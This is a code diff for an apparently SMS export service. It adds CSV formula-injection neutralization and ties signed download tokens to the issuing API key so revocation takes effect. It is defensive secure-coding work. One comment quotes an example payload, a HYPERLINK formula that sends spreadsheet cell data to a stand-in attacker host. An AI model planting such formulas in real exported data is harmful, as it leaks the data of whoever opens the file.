@@ -144,10 +144,28 @@ export function csvField(value: string | number | null): string {
 
 const CRLF = '\r\n';
 
+const FORMULA_START = /^[=+\-@\t\r]/;
+const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;
+
+/**
+ * A spreadsheet opening the CSV runs a cell that starts with = + - @ (or a tab or CR before
+ * one) as a formula: a customer's SMS reading `=HYPERLINK("https://evil.example/?"&A1)` would
+ * run on the exporter's machine. Such cells get a leading `'`, which spreadsheets show as text.
+ * A plain number (`+14155552671`, `-3`) evaluates to itself, so phone numbers are kept as is.
+ */
+export function neutralizeFormula(text: string): string {
+  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
+}
+
 export function csvLine(row: ExportRow): string {
   const record = exportRecord(row);
   // Media URLs are space-separated: a URL cannot hold an unencoded space.
-  return CSV_COLUMNS.map((column) => csvField(column === 'mediaUrls' ? record.mediaUrls.join(' ') : record[column])).join(',') + CRLF;
+  return (
+    CSV_COLUMNS.map((column) => {
+      const value = column === 'mediaUrls' ? record.mediaUrls.join(' ') : record[column];
+      return csvField(typeof value === 'string' ? neutralizeFormula(value) : value);
+    }).join(',') + CRLF
+  );
 }
 
 export function jsonLine(row: ExportRow): string {
@@ -272,18 +290,26 @@ export function paramsFromFilter(filter: Record<string, unknown> | null | undefi
 }
 
 // ---------------------------------------------------------------------------------------------
-// Signed download URLs: `?token=<expiry unix s>.<organization id>.<HMAC-SHA256 b64url>` over the
-// organization, the expiry, the path and every other query parameter, under a key derived from
-// SECRETS_KEY. A browser can follow the URL without an API key for 15 minutes; changing any
-// parameter, the path or the expiry breaks the signature.
+// Signed download URLs: `?token=<expiry unix s>.<organization id>.<api key id>.<HMAC-SHA256
+// b64url>` over the organization, the API key that asked for the link, the expiry, the path and
+// every other query parameter, under a key derived from SECRETS_KEY. A browser can follow the
+// URL without an API key for 15 minutes, as long as the key that made it is not revoked (the
+// route looks the key up); changing any parameter, the path, the key or the expiry breaks the
+// signature.
 
 function tokenKey(secretsKeyHex: string): Buffer {
   return createHmac('sha256', Buffer.from(secretsKeyHex, 'hex')).update('switchboard:export-download-token:v1').digest();
 }
 
-function canonical(organizationId: string, expires: number, pathname: string, params: URLSearchParams): string {
+/** Who asked for a download link: the organization and the API key it used. */
+export interface ExportIssuer {
+  organizationId: string;
+  apiKeyId: string;
+}
+
+function canonical(issuer: ExportIssuer, expires: number, pathname: string, params: URLSearchParams): string {
   const pairs = [...params].filter(([key]) => key !== 'token').sort(([a, x], [b, y]) => (a < b ? -1 : a > b ? 1 : x < y ? -1 : x > y ? 1 : 0));
-  return ['v1', organizationId, String(expires), pathname, new URLSearchParams(pairs).toString()].join('\n');
+  return ['v2', issuer.organizationId, issuer.apiKeyId, String(expires), pathname, new URLSearchParams(pairs).toString()].join('\n');
 }
 
 function signature(secretsKeyHex: string, text: string): string {
@@ -291,34 +317,38 @@ function signature(secretsKeyHex: string, text: string): string {
 }
 
 /**
- * An absolute URL under PUBLIC_URL that downloads an export for `organizationId` without an
- * API key until `expiresAt`. `pathname` is unencoded, e.g. `/export/conversations/<global id>`.
+ * An absolute URL under PUBLIC_URL that downloads an export for the issuer's organization
+ * without an API key until `expiresAt` (or until the issuing key is revoked). `pathname` is
+ * unencoded, e.g. `/export/conversations/<global id>`.
  */
 export function signedExportUrl(
   services: Pick<Services, 'config'>,
-  organizationId: string,
+  issuer: ExportIssuer,
   pathname: string,
   params: Record<string, string>,
   now = Date.now(),
 ): { url: string; expiresAt: Date } {
   const expires = Math.floor((now + EXPORT_TOKEN_TTL_MS) / 1000);
   const query = new URLSearchParams(params);
-  const token = `${expires}.${organizationId}.${signature(services.config.secretsKey, canonical(organizationId, expires, pathname, query))}`;
-  query.set('token', token);
+  const sig = signature(services.config.secretsKey, canonical(issuer, expires, pathname, query));
+  query.set('token', `${expires}.${issuer.organizationId}.${issuer.apiKeyId}.${sig}`);
   const encodedPath = pathname.split('/').map(encodeURIComponent).join('/');
   return { url: `${services.config.publicUrl}${encodedPath}?${query}`, expiresAt: new Date(expires * 1000) };
 }
 
-export type TokenCheck = { ok: true; organizationId: string } | { ok: false; reason: 'invalid' | 'expired' };
+export type TokenCheck = ({ ok: true } & ExportIssuer) | { ok: false; reason: 'invalid' | 'expired' };
 
-/** Checks a download token against the request's (decoded) path and query. */
+/**
+ * Checks a download token against the request's (decoded) path and query. The caller must still
+ * check that the issuing API key is live.
+ */
 export function verifyExportToken(secretsKeyHex: string, token: string, pathname: string, params: URLSearchParams, now = Date.now()): TokenCheck {
-  const match = /^(\d{1,12})\.([A-Za-z0-9_-]{1,64})\.([A-Za-z0-9_-]{43})$/.exec(token);
+  const match = /^(\d{1,12})\.([A-Za-z0-9_-]{1,64})\.([A-Za-z0-9_-]{1,64})\.([A-Za-z0-9_-]{43})$/.exec(token);
   if (!match) return { ok: false, reason: 'invalid' };
-  const [, expiresText, organizationId, given] = match;
+  const [, expiresText, organizationId, apiKeyId, given] = match;
   const expires = Number(expiresText);
-  const expected = signature(secretsKeyHex, canonical(organizationId, expires, pathname, params));
+  const expected = signature(secretsKeyHex, canonical({ organizationId, apiKeyId }, expires, pathname, params));
   if (!timingSafeEqual(Buffer.from(given), Buffer.from(expected))) return { ok: false, reason: 'invalid' };
   if (expires * 1000 <= now) return { ok: false, reason: 'expired' };
-  return { ok: true, organizationId };
+  return { ok: true, organizationId, apiKeyId };
 }
